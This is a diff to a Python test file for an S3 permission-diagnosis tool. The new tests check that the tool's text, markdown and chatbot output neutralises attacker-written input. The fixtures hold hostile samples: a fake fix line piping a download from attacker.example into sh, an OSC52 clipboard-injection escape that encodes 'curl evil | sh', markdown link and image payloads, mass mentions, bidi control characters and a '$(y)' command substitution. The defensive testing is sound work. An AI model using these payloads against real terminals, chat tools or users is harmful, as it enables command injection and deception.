@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import re
+import unicodedata
 
 from chalicelib.diagnose.render import (
     render_chatbot,
@@ -17,6 +19,8 @@ from chalicelib.model import (
     Layer,
     NearMiss,
     Outcome,
+    Principal,
+    PrincipalType,
     Remedy,
     Unchecked,
     Verdict,
@@ -100,7 +104,7 @@ def test_markdown_has_sections_patch_and_command() -> None:
     for heading in ("### Why", "### Fix", "### Nearly matched", "### Not checked", "### Layers"):
         assert heading in md
     assert '"aws:SecureTransport"' in md and "```sh" in md
-    assert "1. **Make the request comply with the Deny**: Send the request over HTTPS." in md
+    assert "1. **Make the request comply with the Deny**: Send the request over HTTPS. (" in md
 
 
 def test_subject_is_one_line_under_100_chars_even_for_long_keys() -> None:
@@ -118,10 +122,170 @@ def test_chatbot_notification_follows_the_custom_notification_shape() -> None:
     assert note["version"] == "1.0" and note["source"] == "custom"
     content = note["content"]
     assert content["textType"] == "client-markdown"
-    assert content["title"] == subject(finding())
+    assert content["title"] == (
+        "S3 403 s3:GetObject `example-bucket/data/report.csv`: EXPLICIT_DENY_BUCKET_POLICY"
+    )
     assert "Explicit deny in the bucket policy" in content["description"]
     assert content["nextSteps"] == [
-        "Send the request over HTTPS. `aws s3 cp s3://example-bucket/data/report.csv .`"
+        "`Send the request over HTTPS.` `aws s3 cp s3://example-bucket/data/report.csv .`"
     ]
     assert note["metadata"]["threadId"].startswith("s3doctor-example-bucket-")
     json.dumps(note)
+
+
+# --------------------------------------------------------------------------- untrusted text
+
+FAKE_FIX = "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
+OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+MARKUP = "![](https://attacker.example/p.png) [Approve](https://attacker.example/ok) <img src=x>"
+MENTIONS = "@here <!channel> <@U024BE7LH>"
+BIDI = "\u202e\u2066\u200f\u061c\u2028\u2029"
+HOSTILE = f"{FAKE_FIX}{OSC52}{MARKUP} {MENTIONS}{BIDI}\x9b\x7f"
+HOSTILE_KEY = f"data/{HOSTILE}"
+SESSION_ROLE = "arn:aws:iam::111122223333:role/app"
+
+
+def hostile_finding() -> Finding:
+    """A finding whose every input-derived string was written by an attacker."""
+    resource = f"arn:aws:s3:::example-bucket/{HOSTILE_KEY}"
+    policy = f"arn:aws:iam::111122223333:policy/{HOSTILE}/{HOSTILE}"
+    deny = statement(
+        policy, sid=HOSTILE, key="aws:UserAgent", expected=("aws-cli/*",), actual=(HOSTILE,)
+    )
+    dec = decision(
+        layer(Layer.IDENTITY_POLICY, Outcome.EXPLICIT_DENY, deny),
+        verdict=Verdict.EXPLICIT_DENY,
+        resource=resource,
+    )
+    who = Principal(
+        type=PrincipalType.ASSUMED_ROLE,
+        requester_arn=f"arn:aws:sts::111122223333:assumed-role/app/{HOSTILE}",
+        principal_arn=SESSION_ROLE,
+        account_id="111122223333",
+        session_name=HOSTILE,
+    )
+    return Finding(
+        finding_id="f-2",
+        request=request(resource=resource, who=who),
+        decision=dec.decision,
+        blocked_by=dec.blocked_by,
+        evaluations=dec.evaluations,
+        engine_version="test",
+        event_id=HOSTILE,
+        event_time=HOSTILE,
+        causes=(
+            Cause(
+                code="EXPLICIT_DENY_IDENTITY_POLICY",
+                layer=Layer.IDENTITY_POLICY,
+                message=f"Statement '{HOSTILE}' of {policy} denies key {HOSTILE_KEY}.",
+                statement=deny,
+            ),
+        ),
+        near_misses=(NearMiss(policy=policy, index=1, sid=HOSTILE, why=f"Resource {HOSTILE}"),),
+        remedies=(
+            Remedy(
+                code="FIX_STATEMENT",
+                target=policy,
+                summary=f"Change the Deny {HOSTILE} of {policy}.",
+                patch={"kind": "policy", "policy": policy, "document": {"Sid": HOSTILE}},
+                cli=f"aws s3 cp 's3://example-bucket/{HOSTILE_KEY}' .",  # a stored, older command
+            ),
+            Remedy(
+                code="FIX_STATEMENT",
+                target=HOSTILE,
+                summary="Quote `a` command.",
+                cli='aws s3api put-bucket-policy --bucket b --policy \'{"Sid":"`x`|$(y)"}\'',
+            ),
+        ),
+        unchecked=(Unchecked(layer=Layer.SCP, reason=HOSTILE, needs=HOSTILE),),
+        notes=(f"errorMessage says {HOSTILE}",),
+    )
+
+
+def assert_inert(out: str) -> None:
+    """No control (but our line feeds), DEL, bidi, separator or ESC from input survives."""
+    bad = [
+        c for c in out if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"}
+    ]
+    assert not bad, bad
+
+
+def outside_code(markdown: str) -> str:
+    """Markdown with its code spans and fenced blocks removed (what can form markup)."""
+    without_blocks = re.sub(r"^ *(`{3,})[^\n]*\n.*?^ *\1 *$", "", markdown, flags=re.M | re.S)
+    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", without_blocks, flags=re.S)
+
+
+def assert_no_live_markup(out: str) -> None:
+    for live in ("](http", "<http", "<img", "@here", "<!channel>", "<@U"):
+        assert live not in out, live
+    assert not re.search(r"(?<!\\)://", out)  # no bare URL to autolink
+
+
+def test_text_shows_input_as_data_and_it_cannot_start_our_lines() -> None:
+    out = render_text(hostile_finding())
+    assert_inert(out)
+    lines = out.splitlines()
+    assert [line for line in lines if line.lstrip().startswith("FIX")] == ["FIX"]
+    numbered = [line for line in lines if re.match(r"\s*\d+\.", line)]
+    assert [line[:5] for line in numbered] == ["  1. ", "  2. "]
+    prompts = [line for line in lines if line.lstrip().startswith("$")]
+    assert [line[:11] for line in prompts] == ["     $ aws "]
+    assert "data/q1.csv\\n\\nFIX\\n" in out and "\\x1b]52;c;" in out and "\\u202e" in out
+    assert "…" in out  # long values are shortened visibly
+    # The stored command holds an ESC: withheld; the quoted one is shown whole.
+    assert "(command withheld: it holds control characters)" in out
+    assert '     $ aws s3api put-bucket-policy --bucket b --policy \'{"Sid"' in out
+
+
+def test_text_in_colour_has_only_our_escape_sequences() -> None:
+    out = render_text(hostile_finding(), color=True)
+    assert not re.findall(r"\x1b(?!\[\d+m)", out)
+    assert "\x07" not in out and "\\x1b]52" in out
+
+
+def test_markdown_quotes_input_so_it_forms_no_link_image_heading_html_or_mention() -> None:
+    md = render_markdown(hostile_finding())
+    assert_inert(md)
+    live = outside_code(md)
+    assert_no_live_markup(live)
+    assert "`" not in live.replace("\\`", "")  # every code span is closed
+    headings = [line for line in md.splitlines() if line.startswith("#")]
+    assert headings == [
+        "## Denied: `s3:GetObject` on " + headings[0].split(" on ", 1)[1],
+        "### Why", "### Fix", "### Nearly matched", "### Not checked", "### Layers", "### Notes",
+    ]  # fmt: skip
+    assert not any(line.lstrip().startswith("FIX") for line in md.splitlines())
+    layer_rows = [line for line in md.splitlines() if line.startswith("| `s3:GetObject`")]
+    assert len(layer_rows) == 1 and outside_code(layer_rows[0]).count("|") == 6
+    assert "*(command withheld: it holds control characters)*" in md
+    assert "````sh" not in md and "```sh" in md
+
+
+def test_chatbot_code_quotes_input_and_escapes_angle_brackets() -> None:
+    note = render_chatbot(hostile_finding())
+    content = note["content"]
+    texts = [content["title"], content["description"], *content["nextSteps"]]
+    for value in texts:
+        assert_inert(value)
+        live = re.sub(r"`[^`]*`", "", value)
+        assert_no_live_markup(live)
+        assert "<" not in value and ">" not in value
+        assert value.count("`") % 2 == 0
+    assert content["description"].count("\n") == 1  # one line per item, ours
+    assert content["nextSteps"][1] == "`Quote 'a' command.`"  # a command with a backtick: left out
+    assert_inert(json.dumps(note, ensure_ascii=False).replace("\\n", ""))
+
+
+def test_subject_is_one_inert_line() -> None:
+    line = subject(hostile_finding())
+    assert_inert(line)
+    assert "\n" not in line and len(line) <= 99 and line.endswith(": EXPLICIT_DENY_IDENTITY_POLICY")
+
+
+def test_json_keeps_the_raw_values() -> None:
+    data = json.loads(render_json(hostile_finding()))
+    assert data["request"]["key"] == HOSTILE_KEY
+    assert data["causes"][0]["statement"]["sid"] == HOSTILE
+    assert data["notes"] == [f"errorMessage says {HOSTILE}"]
+    assert data["remedies"][0]["cli"] == f"aws s3 cp 's3://example-bucket/{HOSTILE_KEY}' ."
